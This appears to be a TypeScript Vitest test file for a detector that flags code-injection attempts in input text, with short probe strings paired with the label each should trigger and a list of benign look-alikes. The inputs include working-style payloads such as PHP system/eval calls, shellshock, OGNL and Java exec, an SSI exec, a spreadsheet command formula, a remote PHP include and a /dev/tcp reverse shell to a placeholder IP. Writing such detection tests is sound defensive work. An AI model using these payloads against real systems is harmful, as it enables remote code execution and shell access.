import { describe, expect, it } from 'vitest';
import { wordsFound } from '../testing/words-found.ts';
import { detectCode } from './detect-code.ts';

const words = (text: string) => wordsFound(detectCode, text);

describe('detectCode', () => {
  it.each([
    ['php-tag', '<?php echo 1;'],
    ['php-call', "system('id')"],
    ['php-call', "eval(base64_decode('eA=='))"],
    ['php-call', '1;phpinfo();'],
    ['php-superglobal', 'x=$_POST[1]'],
    ['php-setting', '-d allow_url_include=on'],
    ['code-probe', 'print(int)0xFFF9999-22'],
    ['code-probe', '${@print(md5(31337))}'],
    ['thinkphp', '/index/\\think\\app/invokefunction'],
    ['shellshock', '() { :;}; /bin/bash -c "id"'],
    ['java-runtime', "T(java.lang.Runtime).getRuntime().exec('id')"],
    ['ognl', '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}'],
    ['spring-class-loader', 'class.module.classLoader.resources'],
    ['python-code', "__import__('os').system('id')"],
    ['node-code', "require('child_process').exec('id')"],
    ['server-side-include', '<!--#config errmsg="a"-->'],
    ['server-side-include', '<esi:debug/>'],
    ['spreadsheet-command', "=cmd|' /C calc'!A0"],
    ['php-call', '{${sleep(9)}}'],
    ['server-side-include', '<!--#exec cmd="ls" -->'],
    ['reverse-shell', 'bash >& /dev/tcp/192.0.2.1/4444'],
    ['php-call', "(system)('id')"],
    ['php-call', "('sys'.'tem')('id')"],
    ['php-call', "include('http://192.0.2.7/x')"],
    ['php-magic-method', '__construct'],
    ['code-probe', 'print(123456789012345678-98765432109876);'],
    ['code-probe', '${@print(chr(122).chr(97))}'],
    ['asp-tag', '<%eval request("a")%>'],
    ['python-code', "open('/x').read()"],
    ['node-code', 'process.env.KEY'],
    ['windows-script', 'Process.Start("calc")'],
  ])('finds %s in %s', (why, text) => {
    expect(words(text)).toContain(why);
  });

  it.each([
    'システムキッチン system',
    'system (M)',
    'exec chair',
    'print',
    'echo dot',
    'die cast',
    'exit(2)',
    'eval',
    '印刷 print(1)',
    'art print (30-40cm)',
    'exit (10-20)',
    'batteries not include (2)',
    'a subprocess. The next one',
    'process.environment',
    '() {',
  ])('leaves %s alone', (text) => {
    expect(words(text)).toEqual([]);
  });
});
